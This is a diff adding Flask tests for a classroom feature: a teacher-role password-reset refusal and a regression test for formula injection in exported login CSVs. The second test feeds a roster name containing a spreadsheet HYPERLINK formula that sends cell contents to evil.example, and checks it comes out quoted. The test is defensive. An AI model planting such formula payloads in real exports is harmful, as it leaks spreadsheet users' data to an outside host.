@@ -886,3 +886,68 @@ def test_competition_forms_with_ids_past_the_database_are_refused(
     refused = organiser.post("/competitions/cup/disqualify", data=data)
     assert refused.status_code == 400
     assert "is not an entry of cup to disqualify" in refused.get_data(as_text=True)
+
+
+# --- classes (issue 22) ----------------------------------------------------------------------
+
+
+def _class_with_teacher_student(store: Store) -> str:
+    """Teachers tess (class maths) and toby, toby also a student of maths (joined by code);
+    the join code of maths."""
+    from arena.service.accounts import authenticate
+    from arena.service.classes import NewClass, create_class, join_as
+
+    for name in ("tess", "toby"):
+        create_account(store, name, PASSWORD, role="teacher", hasher=HASHER)
+    tess = authenticate(store, "tess", PASSWORD, hasher=HASHER)
+    toby = authenticate(store, "toby", PASSWORD, hasher=HASHER)
+    assert tess is not None and toby is not None
+    row = create_class(store, tess, NewClass(name="maths"))
+    assert row.join_code is not None
+    join_as(store, toby, row.join_code)
+    return row.join_code
+
+
+def test_a_teacher_resetting_a_teachers_password_reads_why(app: Flask, store: Store) -> None:
+    """A class's teacher resetting the password of a student who holds the teacher role
+    (only admins may) was a server error on the page (the service's ClassError escaped);
+    now the class page says why and the password is unchanged."""
+    from arena.service.accounts import authenticate
+
+    _class_with_teacher_student(store)
+    tess = logged_in(app, "tess")
+    data = {"csrf_token": csrf_token(tess, "/classes/maths")}
+    refused = tess.post("/classes/maths/students/toby/password", data=data)
+    assert refused.status_code == 303 and refused.headers["Location"].endswith("/classes/maths")
+    page = tess.get("/classes/maths").get_data(as_text=True)
+    assert "Toby is a teacher: only an admin may reset the password" in page
+    assert authenticate(store, "toby", PASSWORD, hasher=HASHER) is not None
+
+
+def test_a_roster_real_name_read_as_a_formula_is_quoted_in_the_logins_csv(
+    app: Flask, store: Store, url: str
+) -> None:
+    """A roster's real name such as ``=HYPERLINK(...)`` came back as is in the printable
+    logins' CSV (and ``arena class roster --import``'s), which a spreadsheet runs as a
+    formula; now it is quoted with ``'`` as the grade and standings exports quote it."""
+    import csv
+    import html
+    import io
+
+    _class_with_teacher_student(store)
+    tess = logged_in(app, "tess")
+    roster = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n-2+3\nAda Lovelace\n'
+    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster}
+    page = tess.post("/classes/maths/roster", data=data).get_data(as_text=True)
+    found = re.search(r'name="csv" value="([^"]*)"', page)
+    assert found, "no CSV on the logins page"
+    rows = list(csv.reader(io.StringIO(html.unescape(found.group(1)))))
+    assert [r[0] for r in rows] == [
+        "real_name", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3", "Ada Lovelace"
+    ]  # fmt: skip
+    runner = CliRunner()
+    made = runner.invoke(
+        cli, ["class", "roster", "maths", "--import", "-", "--url", url], input="=1+1\n"
+    )
+    assert made.exit_code == 0, made.output
+    assert made.output.splitlines()[1].startswith("'=1+1,"), made.output
